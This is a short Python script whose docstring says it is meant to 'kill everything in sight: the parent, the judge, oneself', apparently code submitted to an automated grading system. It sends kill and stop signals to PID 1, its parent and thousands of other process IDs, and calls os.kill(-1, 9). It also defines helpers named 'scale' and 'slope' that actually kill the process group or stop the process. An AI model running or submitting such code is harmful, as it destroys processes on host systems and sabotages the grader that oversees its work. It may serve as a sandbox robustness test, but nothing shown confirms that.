"""Kill everything in sight: the parent, the judge, oneself."""

# %%
import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
    for target in (1, os.getppid(), *range(3, 3000)):
        try:
            os.kill(target, number)
        except OSError:
            pass
# %%
os.kill(-1, 9)
# %%
os.kill(os.getpid(), signal.SIGSTOP)


# %%
def scale(x):
    os.kill(0, 9)


def slope(f, x):
    os.kill(os.getpid(), signal.SIGSTOP)
